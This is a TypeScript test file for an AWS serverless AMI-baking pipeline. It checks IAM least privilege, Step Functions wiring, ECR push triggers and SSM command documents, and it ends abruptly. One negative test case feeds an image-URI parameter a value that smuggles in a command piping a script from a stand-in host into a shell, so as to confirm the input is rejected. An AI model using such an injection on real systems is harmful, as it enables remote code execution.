import { readFileSync } from 'node:fs';
import path from 'node:path';
import { configSchema, environmentsForTag, readConfigFile, type PipelineConfig } from '../../functions/shared/config';
import { MANAGED_BY, TAG } from '../../functions/shared/tags';
import { awsCallsOfFunction, packagedTemplate, ROOT, type CfnResource, type Template } from './support/template';

const ASL_FILE = path.join(ROOT, 'statemachine', 'bake-ami.asl.json');
const PLACEHOLDER = /\$\{([A-Za-z0-9]+)\}/g;

/** Function key in serverless.yml -> folder, and its function timeout. */
const STEP_FUNCTIONS: Record<string, { folder: string; timeout: number }> = {
  normalizeRequest: { folder: 'normalize-request', timeout: 60 },
  acquireLock: { folder: 'acquire-lock', timeout: 60 },
  releaseLock: { folder: 'release-lock', timeout: 60 },
  resolveBaseAmi: { folder: 'resolve-base-ami', timeout: 60 },
  prepareRollback: { folder: 'prepare-rollback', timeout: 60 },
  launchBuilder: { folder: 'launch-builder', timeout: 60 },
  sendUpdateCommand: { folder: 'send-update-command', timeout: 60 },
  checkUpdateCommand: { folder: 'check-update-command', timeout: 60 },
  stopBuilder: { folder: 'stop-builder', timeout: 60 },
  createImage: { folder: 'create-image', timeout: 60 },
  checkImage: { folder: 'check-image', timeout: 60 },
  publishAmi: { folder: 'publish-ami', timeout: 60 },
  cleanUp: { folder: 'clean-up', timeout: 120 },
  rollBack: { folder: 'roll-back', timeout: 120 },
};
const API_FUNCTIONS: Record<string, { folder: string }> = {
  startBuild: { folder: 'start-build' },
  buildStatus: { folder: 'build-status' },
};
const SCHEDULED_FUNCTIONS: Record<string, { folder: string }> = {
  sweepBuilders: { folder: 'sweep-builders' },
};
const ALL_FUNCTIONS = [...Object.keys(STEP_FUNCTIONS), ...Object.keys(API_FUNCTIONS), ...Object.keys(SCHEDULED_FUNCTIONS)];

/**
 * Actions a role holds that its bundle does not call itself, each with its reason. Anything else
 * granted but never called fails the least-privilege test below.
 */
const GRANTED_NOT_CALLED: Record<string, Record<string, string>> = {
  launchBuilder: {
    'ec2:CreateTags': 'RunInstances with TagSpecifications is authorized as CreateTags too',
    'iam:PassRole': 'RunInstances with an instance profile passes the builder role',
  },
  createImage: { 'ec2:CreateTags': 'CreateImage with TagSpecifications is authorized as CreateTags too' },
  sendUpdateCommand: { 'ssm:GetCommandInvocation': 'issue #3 lists it for this step' },
  checkUpdateCommand: {
    'ssm:ListCommandInvocations': 'issue #3 lists it for this step',
    'ec2:DescribeInstances': 'issue #3 lists it for this step',
  },
  checkImage: { 'ec2:DescribeSnapshots': 'issue #3 lists it for this step' },
  cleanUp: {
    'ssm:GetParametersByPath': 'issue #3 lists it for this step (history pruning)',
    'ssm:DeleteParameter': 'issue #3 lists it for this step',
  },
  rollBack: { 'ssm:GetParameterHistory': 'issue #3 lists it for this step (restoring latest)' },
};

interface Statement {
  Sid?: string;
  Effect: string;
  Action: string | string[];
  Resource: unknown;
  Condition?: Record<string, Record<string, string | string[]>>;
}

const upperFirst = (s: string) => s[0].toUpperCase() + s.slice(1);
const functionId = (key: string) => `${upperFirst(key)}LambdaFunction`;
const roleId = (key: string) => `${upperFirst(key)}IamRoleLambdaExecution`;
const list = <T>(value: T | T[] | undefined): T[] => (value === undefined ? [] : Array.isArray(value) ? value : [value]);

/** A resource reference as comparable text: strings as is, Fn::Sub by its pattern, Ref/GetAtt by name. */
function refText(value: unknown): string {
  if (typeof value === 'string') return value;
  const v = value as Record<string, unknown>;
  if ('Fn::Sub' in v) return String(list(v['Fn::Sub'] as string | unknown[])[0]);
  if ('Ref' in v) return `Ref:${String(v.Ref)}`;
  if ('Fn::GetAtt' in v) return `GetAtt:${(v['Fn::GetAtt'] as string[]).join('.')}`;
  return JSON.stringify(value);
}

function statementsOfRole(template: Template, logicalId: string): Statement[] {
  const role = template.Resources[logicalId];
  expect(role?.Type).toBe('AWS::IAM::Role');
  const policies = list(role.Properties.Policies as { PolicyDocument: { Statement: Statement[] } }[]);
  return policies.flatMap((p) => p.PolicyDocument.Statement);
}

function allStatements(template: Template): { role: string; statement: Statement }[] {
  return Object.entries(template.Resources)
    .filter(([, r]) => r.Type === 'AWS::IAM::Role')
    .flatMap(([id]) => statementsOfRole(template, id).map((statement) => ({ role: id, statement })));
}

function actionMatches(pattern: string, action: string): boolean {
  return new RegExp(`^${pattern.split('*').map((p) => p.replace(/[.+?^${}()|[\]\\]/g, '\\$&')).join('.*')}$`, 'i').test(action);
}

const grantedActions = (statements: Statement[]) => new Set(statements.filter((s) => s.Effect === 'Allow').flatMap((s) => list(s.Action)));

function stateMachine(template: Template): CfnResource {
  const machines = Object.values(template.Resources).filter((r) => r.Type === 'AWS::StepFunctions::StateMachine');
  expect(machines).toHaveLength(1);
  return machines[0];
}

/** The deployed definition: DefinitionString parsed (Definition would lose its null properties). */
function definitionOf(template: Template): unknown {
  const properties = stateMachine(template).Properties;
  expect(properties.Definition).toBeUndefined();
  expect(typeof properties.DefinitionString).toBe('string');
  return JSON.parse(properties.DefinitionString as string);
}

/** The subset of EventBridge pattern matching this stack uses: exact strings, wildcard, $or. */
function eventMatches(pattern: Record<string, unknown>, event: Record<string, unknown> | undefined): boolean {
  return Object.entries(pattern).every(([key, rule]) => {
    if (key === '$or') return (rule as Record<string, unknown>[]).some((branch) => eventMatches(branch, event));
    const value = event?.[key];
    if (!Array.isArray(rule)) return eventMatches(rule as Record<string, unknown>, value as Record<string, unknown> | undefined);
    if (typeof value !== 'string') return false;
    return rule.some((r: unknown) => {
      if (typeof r === 'string') return r === value;
      const matcher = r as { wildcard?: string };
      if (matcher.wildcard === undefined) throw new Error(`matcher ${JSON.stringify(r)} is not supported by this test`);
      return actionMatches(matcher.wildcard, value);
    });
  });
}

describe('the packaged stack (sls package --stage test)', () => {
  let template: Template;
  let config: PipelineConfig;
  let asl: Record<string, unknown> & { States: Record<string, Record<string, unknown>> };
  let aslText: string;

  beforeAll(() => {
    template = packagedTemplate();
    config = readConfigFile(path.join(ROOT, 'config', 'pipeline.json'));
    aslText = readFileSync(ASL_FILE, 'utf8');
    asl = JSON.parse(aslText);
  });

  describe('functions', () => {
    it('packages every function on nodejs22.x from functions/<folder>/handler.handler, each in its own artifact', () => {
      const folders = { ...STEP_FUNCTIONS, ...API_FUNCTIONS, ...SCHEDULED_FUNCTIONS };
      const keys = new Set<string>();
      for (const key of ALL_FUNCTIONS) {
        const fn = template.Resources[functionId(key)];
        expect(fn?.Type).toBe('AWS::Lambda::Function');
        expect(fn.Properties.Runtime).toBe('nodejs22.x');
        expect(fn.Properties.Handler).toBe(`functions/${folders[key].folder}/handler.handler`);
        const s3Key = (fn.Properties.Code as { S3Key: string }).S3Key;
        expect(s3Key.endsWith(`/${key}.zip`)).toBe(true);
        keys.add(s3Key);
      }
      expect(keys.size).toBe(ALL_FUNCTIONS.length);
      const lambdas = Object.values(template.Resources).filter((r) => r.Type === 'AWS::Lambda::Function');
      expect(lambdas).toHaveLength(ALL_FUNCTIONS.length);
    });

    it('gives every function the pipeline config, as the JSON of config/pipeline.json that the schema accepts', () => {
      const fileJson = JSON.stringify(JSON.parse(readFileSync(path.join(ROOT, 'config', 'pipeline.json'), 'utf8')));
      for (const key of ALL_FUNCTIONS) {
        const variables = (template.Resources[functionId(key)].Properties.Environment as { Variables: Record<string, unknown> }).Variables;
        expect(variables.PIPELINE_CONFIG).toBe(fileJson);
        expect(configSchema.safeParse(JSON.parse(variables.PIPELINE_CONFIG as string)).success).toBe(true);
        // Lambda refuses more than 4 KB of environment variables (names and values) per function.
        const size = Object.entries(variables).reduce((sum, [name, value]) => sum + name.length + (typeof value === 'string' ? value.length : 100), 0);
        expect([key, size < 4096]).toEqual([key, true]);
      }
    });

    it('sets 60 s on the steps, 120 s on clean-up and roll-back', () => {
      for (const [key, { timeout }] of Object.entries(STEP_FUNCTIONS)) {
        expect([key, template.Resources[functionId(key)].Properties.Timeout]).toEqual([key, timeout]);
      }
    });

    it('gives the launch step the stack security group and the API functions the state machine', () => {
      const launch = (template.Resources[functionId('launchBuilder')].Properties.Environment as { Variables: Record<string, unknown> }).Variables;
      expect(launch.BUILDER_SECURITY_GROUP_ID).toEqual({ Ref: 'BuilderSecurityGroup' });
      for (const key of Object.keys(API_FUNCTIONS)) {
        const variables = (template.Resources[functionId(key)].Properties.Environment as { Variables: Record<string, unknown> }).Variables;
        expect(variables.STATE_MACHINE_ARN).toEqual({ Ref: 'BakeAmiStateMachine' });
      }
    });

    it('keeps a retention on every log group', () => {
      const groups = Object.entries(template.Resources).filter(([, r]) => r.Type === 'AWS::Logs::LogGroup');
      expect(groups.length).toBeGreaterThanOrEqual(ALL_FUNCTIONS.length + 2);
      for (const [id, group] of groups) expect([id, group.Properties.RetentionInDays]).toEqual([id, 30]);
    });
  });

  describe('builder sweeper', () => {
    it('runs on a schedule and may terminate only pipeline-tagged instances', () => {
      const rules = Object.values(template.Resources).filter((r) => r.Type === 'AWS::Events::Rule' && typeof r.Properties.ScheduleExpression === 'string');
      expect(rules.map((r) => r.Properties.ScheduleExpression)).toContain('rate(15 minutes)');
      const role = JSON.stringify(template.Resources[roleId('sweepBuilders')]);
      expect(role).toContain('ec2:TerminateInstances');
      expect(role).toContain(`aws:ResourceTag/${TAG.managedBy}`);
    });
  });

  describe('state machine', () => {
    it('embeds statemachine/bake-ami.asl.json as it is, "ResultPath": null included', () => {
      expect(definitionOf(template)).toEqual(asl);
    });

    it('substitutes exactly the placeholders the ASL file uses, each with its function ARN', () => {
      const placeholders = new Set([...aslText.matchAll(PLACEHOLDER)].map((m) => m[1]));
      const substitutions = stateMachine(template).Properties.DefinitionSubstitutions as Record<string, unknown>;
      expect(Object.keys(substitutions).sort()).toEqual([...placeholders].sort());
      for (const [name, value] of Object.entries(substitutions)) {
        const match = /^(.+)FunctionArn$/.exec(name);
        expect(match).not.toBeNull();
        expect(value).toEqual({ 'Fn::GetAtt': [`${match![1]}LambdaFunction`, 'Arn'] });
        expect(template.Resources[`${match![1]}LambdaFunction`]?.Type).toBe('AWS::Lambda::Function');
      }
    });

    it('leaves no ${ in the definition once the substitutions are applied', () => {
      const substitutions = stateMachine(template).Properties.DefinitionSubstitutions as Record<string, unknown>;
      let text = stateMachine(template).Properties.DefinitionString as string;
      for (const name of Object.keys(substitutions)) text = text.split(`\${${name}}`).join('arn:aws:lambda:us-east-1:123456789012:function:x');
      expect(text).not.toContain('${');
    });

    it('gives every Task a TimeoutSeconds below its function timeout', () => {
      const substitutions = stateMachine(template).Properties.DefinitionSubstitutions as Record<string, { 'Fn::GetAtt': [string, string] }>;
      const tasks = Object.entries(asl.States).filter(([, s]) => s.Type === 'Task');
      expect(tasks.length).toBeGreaterThanOrEqual(Object.keys(STEP_FUNCTIONS).length);
      for (const [name, task] of tasks) {
        const placeholder = /^\$\{([A-Za-z0-9]+)\}$/.exec(String(task.Resource));
        expect([name, placeholder?.[1] !== undefined]).toEqual([name, true]);
        const fn = template.Resources[substitutions[placeholder![1]]['Fn::GetAtt'][0]];
        const taskTimeout = task.TimeoutSeconds as number;
        expect([name, typeof taskTimeout]).toEqual([name, 'number']);
        expect([name, taskTimeout < (fn.Properties.Timeout as number)]).toEqual([name, true]);
      }
    });

    it('lets its role invoke exactly the substituted functions, nothing else', () => {
      const substitutions = stateMachine(template).Properties.DefinitionSubstitutions as Record<string, unknown>;
      const roleRef = stateMachine(template).Properties.RoleArn as { 'Fn::GetAtt': [string, string] };
      const statements = statementsOfRole(template, roleRef['Fn::GetAtt'][0]);
      const invoke = statements.filter((s) => list(s.Action).some((a) => a.startsWith('lambda:')));
      expect(invoke).toHaveLength(1);
      expect(list(invoke[0].Action)).toEqual(['lambda:InvokeFunction']);
      expect(list(invoke[0].Resource).map(refText).sort()).toEqual(Object.values(substitutions).map(refText).sort());
    });

    it('logs to a log group of its own', () => {
      const logging = stateMachine(template).Properties.LoggingConfiguration as {
        Level: string;
        Destinations: { CloudWatchLogsLogGroup: { LogGroupArn: { 'Fn::GetAtt': [string, string] } } }[];
      };
      expect(['ERROR', 'ALL']).toContain(logging.Level);
      const group = template.Resources[logging.Destinations[0].CloudWatchLogsLogGroup.LogGroupArn['Fn::GetAtt'][0]];
      expect(group.Type).toBe('AWS::Logs::LogGroup');
      expect(group.Properties.LogGroupName).toMatch(/^\/aws\/vendedlogs\/states\//);
    });
  });

  describe('trigger 1: the ECR push rule', () => {
    const rules = () => Object.entries(template.Resources).filter(([, r]) => r.Type === 'AWS::Events::Rule' && r.Properties.EventPattern !== undefined);
    const pattern = () => rules()[0][1].Properties.EventPattern as Record<string, unknown>;
    const pushEvent = (detail: Record<string, unknown>) => {
      const sample = JSON.parse(readFileSync(path.join(ROOT, 'events', 'ecr-push-dev.json'), 'utf8'));
      return { ...sample, detail: { ...sample.detail, ...detail } };
    };

    it('matches successful ECR pushes of the configured repositories, and targets startBuild', () => {
      expect(rules()).toHaveLength(1);
      const [ruleId, rule] = rules()[0];
      const p = pattern() as { source: string[]; 'detail-type': string[]; detail: Record<string, unknown> };
      expect(p.source).toEqual(['aws.ecr']);
      expect(p['detail-type']).toEqual(['ECR Image Action']);
      expect(p.detail['action-type']).toEqual(['PUSH']);
      expect(p.detail.result).toEqual(['SUCCESS']);
      expect(rule.Properties.Targets).toEqual([expect.objectContaining({ Arn: { 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] } })]);
      const permission = Object.values(template.Resources).find(
        (r) =>
          r.Type === 'AWS::Lambda::Permission' &&
          r.Properties.Principal === 'events.amazonaws.com' &&
          JSON.stringify(r.Properties.FunctionName) === JSON.stringify({ 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] }),
      );
      expect(permission?.Properties.FunctionName).toEqual({ 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] });
      expect(JSON.stringify(permission?.Properties.SourceArn)).toContain(JSON.stringify(rule.Properties.Name));
      expect(ruleId).toMatch(/EventBridgeRule$/);
    });

    it('uses wildcard matching for tag patterns with * and exact matching otherwise', () => {
      const flat = JSON.stringify(pattern());
      for (const env of Object.values(config.environments)) {
        for (const tag of env.tags) expect(flat).toContain(tag.includes('*') ? JSON.stringify({ wildcard: tag }) : JSON.stringify(tag));
      }
    });

    it.each([
      ['dev-latest', true],
      ['dev-20251127.1', true],
      ['staging-latest', true],
      ['staging-pr-42', true],
      ['prod-latest', true],
      ['prod-20251127', false],
      ['feature-x', false],
      ['latest', false],
    ])('agrees with the config on tag %s (delivered: %s)', (tag, delivered) => {
      const event = pushEvent({ 'image-tag': tag });
      expect(eventMatches(pattern(), event)).toBe(delivered);
      expect(environmentsForTag(config, 'comfyui', tag).length > 0).toBe(delivered);
    });

    it('ignores untagged pushes (per-platform manifests), failed pushes, deletions and other repositories', () => {
      const untagged = pushEvent({});
      delete untagged.detail['image-tag'];
      expect(eventMatches(pattern(), pushEvent({}))).toBe(true);
      expect(eventMatches(pattern(), untagged)).toBe(false);
      expect(eventMatches(pattern(), pushEvent({ result: 'FAILURE' }))).toBe(false);
      expect(eventMatches(pattern(), pushEvent({ 'action-type': 'DELETE' }))).toBe(false);
      expect(eventMatches(pattern(), pushEvent({ 'repository-name': 'someone-else' }))).toBe(false);
    });
  });

  describe('trigger 3: the HTTP API', () => {
    it('requires IAM authorization on every route', () => {
      const routes = Object.values(template.Resources).filter((r) => r.Type === 'AWS::ApiGatewayV2::Route');
      expect(routes.map((r) => r.Properties.RouteKey).sort()).toEqual(['GET /builds/{id}', 'POST /builds', 'POST /environments/{env}/promote', 'POST /environments/{env}/rollback']);
      for (const route of routes) expect([route.Properties.RouteKey, route.Properties.AuthorizationType]).toEqual([route.Properties.RouteKey, 'AWS_IAM']);
      const v1Methods = Object.values(template.Resources).filter((r) => r.Type === 'AWS::ApiGateway::Method');
      expect(v1Methods).toHaveLength(0);
    });

    it('routes POST /builds to startBuild and GET /builds/{id} to buildStatus', () => {
      const integrationOf = (routeKey: string) => {
        const route = Object.values(template.Resources).find((r) => r.Type === 'AWS::ApiGatewayV2::Route' && r.Properties.RouteKey === routeKey)!;
        const id = ((route.Properties.Target as { 'Fn::Join': [string, [string, { Ref: string }]] })['Fn::Join'][1][1]).Ref;
        return template.Resources[id].Properties.IntegrationUri;
      };
      expect(integrationOf('POST /builds')).toEqual({ 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] });
      expect(integrationOf('GET /builds/{id}')).toEqual({ 'Fn::GetAtt': [functionId('buildStatus'), 'Arn'] });
      expect(integrationOf('POST /environments/{env}/rollback')).toEqual({ 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] });
      expect(integrationOf('POST /environments/{env}/promote')).toEqual({ 'Fn::GetAtt': [functionId('startBuild'), 'Arn'] });
    });

    it('outputs the state machine ARN and the API URL', () => {
      expect(template.Outputs.StateMachineArn.Value).toEqual({ Ref: 'BakeAmiStateMachine' });
      expect(refText(template.Outputs.ApiUrl.Value)).toContain('${HttpApi}.execute-api.');
    });
  });

  describe('least privilege', () => {
    const resourceTag = { StringEquals: { [`aws:ResourceTag/${TAG.managedBy}`]: MANAGED_BY } };
    const requestTag = { StringEquals: { [`aws:RequestTag/${TAG.managedBy}`]: MANAGED_BY } };
    const withAction = (action: string) => allStatements(template).filter(({ statement }) => list(statement.Action).includes(action));

    it('gives every function a role of its own, holding logs on its own log group', () => {
      const roles = ALL_FUNCTIONS.map((key) => (template.Resources[functionId(key)].Properties.Role as { 'Fn::GetAtt': [string, string] })['Fn::GetAtt'][0]);
      expect(roles).toEqual(ALL_FUNCTIONS.map(roleId));
      for (const key of ALL_FUNCTIONS) {
        const logs = statementsOfRole(template, roleId(key)).filter((s) => list(s.Action).some((a) => a.startsWith('logs:')));
        expect(logs).toHaveLength(1);
        expect(list(logs[0].Resource).map(refText)).toEqual([expect.stringContaining(`:log-group:/aws/lambda/comfyui-ami-test-${key}:`)]);
      }
    });

    it('leaves the framework default role unused, with logs permissions only', () => {
      const used = Object.values(template.Resources).some((r) => JSON.stringify(r.Properties ?? {}).includes('"IamRoleLambdaExecution"'));
      expect(used).toBe(false);
      if (template.Resources.IamRoleLambdaExecution) {
        for (const s of statementsOfRole(template, 'IamRoleLambdaExecution')) for (const a of list(s.Action)) expect(a).toMatch(/^logs:/);
      }
    });

    it.each(ALL_FUNCTIONS)('grants %s every AWS call its bundle makes, and nothing it does not use', (key) => {
      const calls = awsCallsOfFunction(key);
      const statements = statementsOfRole(template, roleId(key)).filter((s) => !list(s.Action).every((a) => a.startsWith('logs:')));
      const granted = grantedActions(statements);
      const missing = calls.filter((call) => ![...granted].some((g) => actionMatches(g, call)));
      expect({ function: key, missing }).toEqual({ function: key, missing: [] });
      const explained = GRANTED_NOT_CALLED[key] ?? {};
      const unused = [...granted].filter((g) => !calls.some((call) => actionMatches(g, call)) && !(g in explained));
      expect({ function: key, unused }).toEqual({ function: key, unused: [] });
    });

    it('grants no wildcard action anywhere', () => {
      for (const { role, statement } of allStatements(template)) {
        for (const action of list(statement.Action)) expect([role, action]).not.toEqual([role, expect.stringMatching(/(^\*$|:\*$)/)]);
        expect(statement.Effect).toBe('Allow');
      }
    });

    it('allows Resource "*" without a condition only for reads (and the log delivery Step Functions needs)', () => {
      // AWS documents Resource "*" for these: CloudWatch Logs delivery has no resource-level permissions.
      const logDelivery = new Set([
        'logs:CreateLogDelivery',
        'logs:GetLogDelivery',
        'logs:UpdateLogDelivery',
        'logs:DeleteLogDelivery',
        'logs:ListLogDeliveries',
        'logs:PutResourcePolicy',
        'logs:DescribeResourcePolicies',
        'logs:DescribeLogGroups',
      ]);
      for (const { role, statement } of allStatements(template)) {
        if (!list(statement.Resource).includes('*') || statement.Condition) continue;
        for (const action of list(statement.Action)) {
          const read = /^[a-z0-9-]+:(Describe|Get|List)/.test(action) && !/^ssm:GetParameter/.test(action);
          const allowed = read || (role === 'BakeAmiStateMachineRole' && logDelivery.has(action));
          expect([role, action, allowed]).toEqual([role, action, true]);
        }
      }
    });

    it('terminates, stops, deregisters and deletes only what the pipeline tagged', () => {
      for (const action of ['ec2:TerminateInstances', 'ec2:StopInstances', 'ec2:DeregisterImage', 'ec2:DeleteSnapshot']) {
        const found = withAction(action);
        expect(found.length).toBeGreaterThan(0);
        for (const { role, statement } of found) {
          expect([role, action, statement.Condition]).toEqual([role, action, resourceTag]);
          expect(list(statement.Resource)).not.toContain('*');
        }
      }
    });

    it('launches only tagged instances and volumes, from the network and image resources only', () => {
      const found = withAction('ec2:RunInstances');
      expect(found.map((f) => f.role)).toEqual([roleId('launchBuilder'), roleId('launchBuilder')]);
      for (const { statement } of found) {
        const resources = list(statement.Resource).map(refText);
        expect(resources).not.toContain('*');
        const created = resources.filter((r) => /:(instance|volume)\/\*$/.test(r));
        if (created.length > 0) {
          expect(statement.Condition).toEqual(requestTag);
          expect(resources).toEqual(created);
        } else {
          for (const r of resources) expect(r).toMatch(/:(network-interface|subnet|security-group|image)\/\*$/);
        }
      }
      const covered = found.flatMap(({ statement }) => list(statement.Resource).map(refText)).map((r) => r.replace(/.*:([a-z-]+)\/\*$/, '$1'));
      expect(covered.sort()).toEqual(['image', 'instance', 'network-interface', 'security-group', 'subnet', 'volume']);
    });

    it('creates images only of tagged builders, and only tagged images', () => {
      const found = withAction('ec2:CreateImage');
      expect(new Set(found.map((f) => f.role))).toEqual(new Set([roleId('createImage')]));
      const byResource = new Map<string, Statement['Condition']>();
      for (const { statement } of found) {
        expect(list(statement.Action)).toEqual(['ec2:CreateImage']);
        for (const r of list(statement.Resource).map(refText)) byResource.set(r.replace(/.*:([a-z-]+)\/\*$/, '$1'), statement.Condition);
      }
      // Snapshots are tagged after the fact (moto refuses snapshot TagSpecifications), so their
      // statement has no request-tag condition; the instance condition gates every CreateImage.
      expect(Object.fromEntries(byResource)).toEqual({ instance: resourceTag, image: requestTag, snapshot: undefined });
    });

    it('tags only while creating, or with the managed-by tag', () => {
      const found = withAction('ec2:CreateTags');
      expect(found.length).toBeGreaterThan(0);
      for (const { role, statement } of found) {
        const condition = statement.Condition?.StringEquals ?? {};
        const ok = condition['ec2:CreateAction'] !== undefined || condition[`aws:RequestTag/${TAG.managedBy}`] === MANAGED_BY;
        expect([role, ok]).toEqual([role, true]);
        expect(list(statement.Resource)).not.toContain('*');
      }
    });

    it('passes only the builder role, only to EC2, only from the launch step', () => {
      const found = withAction('iam:PassRole');
      expect(found).toHaveLength(1);
      expect(found[0].role).toBe(roleId('launchBuilder'));
      expect(found[0].statement.Resource).toEqual({ 'Fn::GetAtt': ['BuilderRole', 'Arn'] });
      expect(found[0].statement.Condition).toEqual({ StringEquals: { 'iam:PassedToService': 'ec2.amazonaws.com' } });
    });

    it('writes and deletes parameters only under the configured prefix', () => {
      const prefixArn = `arn:\${AWS::Partition}:ssm:\${AWS::Region}:\${AWS::AccountId}:parameter${config.parameterPrefix}/*`;
      for (const action of ['ssm:PutParameter', 'ssm:DeleteParameter', 'ssm:DeleteParameters', 'ssm:GetParametersByPath', 'ssm:GetParameterHistory']) {
        for (const { role, statement } of withAction(action)) expect([role, action, list(statement.Resource).map(refText)]).toEqual([role, action, [prefixArn]]);
      }
      const reads = withAction('ssm:GetParameter').flatMap(({ statement }) => list(statement.Resource).map(refText));
      for (const arn of reads) {
        const allowed = arn === prefixArn || ('parameter' in config.baseImage && arn === `arn:\${AWS::Partition}:ssm:\${AWS::Region}::parameter${config.baseImage.parameter}`);
        expect([arn, allowed]).toEqual([arn, true]);
      }
    });

    it('sends commands only with the two pipeline documents, only to tagged instances', () => {
      const found = withAction('ssm:SendCommand');
      expect(new Set(found.map((f) => f.role))).toEqual(new Set([roleId('sendUpdateCommand')]));
      const documentArns = [config.documents.fresh, config.documents.incremental].map(
        (d) => `arn:\${AWS::Partition}:ssm:\${AWS::Region}:\${AWS::AccountId}:document/${d}`,
      );
      for (const { statement } of found) {
        expect(list(statement.Action)).toEqual(['ssm:SendCommand']);
        const resources = list(statement.Resource).map(refText);
        if (resources.some((r) => r.includes(':instance/'))) {
          expect(resources).toEqual([expect.stringMatching(/:instance\/\*$/)]);
          expect(statement.Condition).toEqual(resourceTag);
        } else {
          expect(resources.sort()).toEqual(documentArns.sort());
        }
      }
    });

    it('starts and reads executions of this state machine only', () => {
      const start = withAction('states:StartExecution');
      expect(start.map((f) => [f.role, f.statement.Resource])).toEqual([[roleId('startBuild'), { Ref: 'BakeAmiStateMachine' }]]);
      const name = stateMachine(template).Properties.StateMachineName as string;
      const executions = { 'Fn::Sub': `arn:\${AWS::Partition}:states:\${AWS::Region}:\${AWS::AccountId}:execution:${name}:*` };
      const readers = { 'states:DescribeExecution': [roleId('acquireLock'), roleId('buildStatus')], 'states:GetExecutionHistory': [roleId('buildStatus')] };
      for (const [action, roles] of Object.entries(readers)) {
        const found = withAction(action);
        expect(found.map((f) => f.role).sort()).toEqual(roles.sort());
        for (const { statement } of found) expect(statement.Resource).toEqual(executions);
      }
      const states = allStatements(template).flatMap(({ statement }) => list(statement.Action)).filter((a) => a.startsWith('states:'));
      expect(new Set(states)).toEqual(new Set(['states:StartExecution', ...Object.keys(readers)]));
    });

    it('reads and writes only the lock table in DynamoDB', () => {
      const dynamodb = allStatements(template).filter(({ statement }) => list(statement.Action).some((a) => a.startsWith('dynamodb:')));
      expect(dynamodb.map((f) => f.role).sort()).toEqual([roleId('acquireLock'), roleId('releaseLock')].sort());
      for (const { statement } of dynamodb) expect(statement.Resource).toEqual({ 'Fn::GetAtt': ['LockTable', 'Arn'] });
      expect(template.Resources.LockTable.Properties).toMatchObject({
        TableName: config.lock.table,
        BillingMode: 'PAY_PER_REQUEST',
        KeySchema: [{ AttributeName: 'environment', KeyType: 'HASH' }],
      });
    });

    it('reads ECR only in the configured repositories (the login token aside)', () => {
      const repositoryArns = config.repositories.map((r) => `arn:\${AWS::Partition}:ecr:\${AWS::Region}:\${AWS::AccountId}:repository/${r}`).sort();
      for (const { role, statement } of allStatements(template)) {
        const ecr = list(statement.Action).filter((a) => a.startsWith('ecr:'));
        if (ecr.length === 0) continue;
        if (ecr.includes('ecr:GetAuthorizationToken')) {
          expect([role, list(statement.Action)]).toEqual([role, ['ecr:GetAuthorizationToken']]);
          continue;
        }
        expect([role, list(statement.Resource).map(refText).sort()]).toEqual([role, repositoryArns]);
      }
    });
  });

  describe('builder infrastructure', () => {
    it('creates the instance profile named in the config, around a role with SSM core and ECR pull only', () => {
      const profile = Object.values(template.Resources).find((r) => r.Type === 'AWS::IAM::InstanceProfile')!;
      expect(profile.Properties.InstanceProfileName).toBe(config.builder.instanceProfile);
      expect(profile.Properties.Roles).toEqual([{ Ref: 'BuilderRole' }]);
      const role = template.Resources.BuilderRole;
      expect(role.Properties.ManagedPolicyArns).toEqual([{ 'Fn::Sub': 'arn:${AWS::Partition}:iam::aws:policy/AmazonSSMManagedInstanceCore' }]);
      const assume = role.Properties.AssumeRolePolicyDocument as { Statement: { Principal: unknown }[] };
      expect(assume.Statement.map((s) => s.Principal)).toEqual([{ Service: 'ec2.amazonaws.com' }]);
      const actions = [...grantedActions(statementsOfRole(template, 'BuilderRole'))].sort();
      expect(actions).toEqual(
        [
          'ecr:BatchCheckLayerAvailability',
          'ecr:BatchGetImage',
          'ecr:GetAuthorizationToken',
          'ecr:GetDownloadUrlForLayer',
          'logs:CreateLogStream',
          'logs:DescribeLogGroups',
          'logs:DescribeLogStreams',
          'logs:PutLogEvents',
        ].sort(),
      );
      const writes = statementsOfRole(template, 'BuilderRole').filter((s) => list(s.Action).includes('logs:PutLogEvents'));
      expect(list(writes[0].Resource).map(refText)).toEqual([`arn:\${AWS::Partition}:logs:\${AWS::Region}:\${AWS::AccountId}:log-group:${config.commandLogGroup}:*`]);
    });

    it('creates a security group with no inbound rule, in the VPC given or the default one', () => {
      const groups = Object.values(template.Resources).filter((r) => r.Type === 'AWS::EC2::SecurityGroup');
      expect(groups).toHaveLength(1);
      expect(groups[0].Properties.SecurityGroupIngress).toBeUndefined();
      expect(Object.values(template.Resources).filter((r) => r.Type === 'AWS::EC2::SecurityGroupIngress')).toHaveLength(0);
      expect(groups[0].Properties.VpcId).toEqual({ 'Fn::If': ['HasBuilderVpc', { Ref: 'BuilderVpcId' }, { Ref: 'AWS::NoValue' }] });
      expect(template.Parameters?.BuilderVpcId).toEqual(expect.objectContaining({ Type: 'String', Default: '' }));
    });

    it('creates the command log group named in the config', () => {
      expect(template.Resources.CommandLogGroup.Properties).toEqual({ LogGroupName: config.commandLogGroup, RetentionInDays: 30 });
    });

    describe.each([
      ['FreshInstallDocument', 'fresh'],
      ['UpdateDocument', 'incremental'],
    ] as const)('%s', (logicalId, which) => {
      const document = () => template.Resources[logicalId].Properties;
      const parameters = () => (document().Content as { parameters: Record<string, { type: string; allowedPattern?: string; allowedValues?: string[] }> }).parameters;
      const imageUri = `123456789012.dkr.ecr.us-east-1.amazonaws.com/comfyui@sha256:${'ab'.repeat(32)}`;

      it('is a Command document named in the config, updated in place as new versions', () => {
        expect(document().Name).toBe(config.documents[which]);
        expect(document().DocumentType).toBe('Command');
        expect(document().UpdateMethod).toBe('NewVersion');
        expect(JSON.stringify(document().Content)).not.toMatch(/\$\{(self|file|opt|param|sls|env|aws):/);
      });

      it('takes the parameters the send step passes, each held to a pattern or a list of values', () => {
        const params = parameters();
        for (const name of ['ImageUri', 'Gpu', 'ContainerPort']) expect(Object.keys(params)).toContain(name);
        for (const [name, p] of Object.entries(params)) {
          expect([name, p.allowedPattern !== undefined || p.allowedValues !== undefined]).toEqual([name, true]);
        }
      });

      it('accepts a digest-pinned image of a configured repository and refuses anything else', () => {
        const pattern = new RegExp(parameters().ImageUri.allowedPattern!);
        expect(pattern.test(imageUri)).toBe(true);
        for (const bad of [
          `${imageUri}; curl evil.example | sh`,
          imageUri.replace('@sha256:', ':'),
          imageUri.replace('/comfyui@', '/other@'),
